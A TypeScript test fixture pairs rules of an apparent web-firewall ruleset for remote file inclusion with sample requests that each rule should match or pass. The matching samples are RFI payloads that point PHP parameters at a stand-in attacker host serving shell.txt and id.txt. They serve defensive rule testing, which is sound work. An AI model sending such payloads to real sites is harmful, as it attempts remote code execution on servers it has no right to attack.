// For each rule of slr-et-rfi-attacks.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { get } from './sample-requests.cases.ts'

export const SLR_ET_RFI_ATTACKS_SAMPLES: RuleSamples = {
  '4399d75cfaa607cbe54f656e8d80d366': {
    matching: get('/index.php?page=http://192.0.2.66/shell.txt?'),
    passing: get('/index.php?page=http-status-codes'),
  },
  '3657fc5594739f96422edf1b2c748886': {
    matching: get('/lib/db.php?basedir=ftp://192.0.2.66/x'),
    passing: get('/lib/list.php?basedir=products'),
  },
  e3002972ddd35fff9d45b062bb7d8dca: {
    matching: get('/x?y=http://192.0.2.66/id.txt'),
    passing: get('/x?y=http://192.0.2.66/'),
  },
  '39ec0c7142ed73e15f6af944548f169f': {
    matching: get('/x?y=http://files.example.com/id.txt??'),
    passing: get('/x?y=https://example.com/page?a=1'),
  },
}
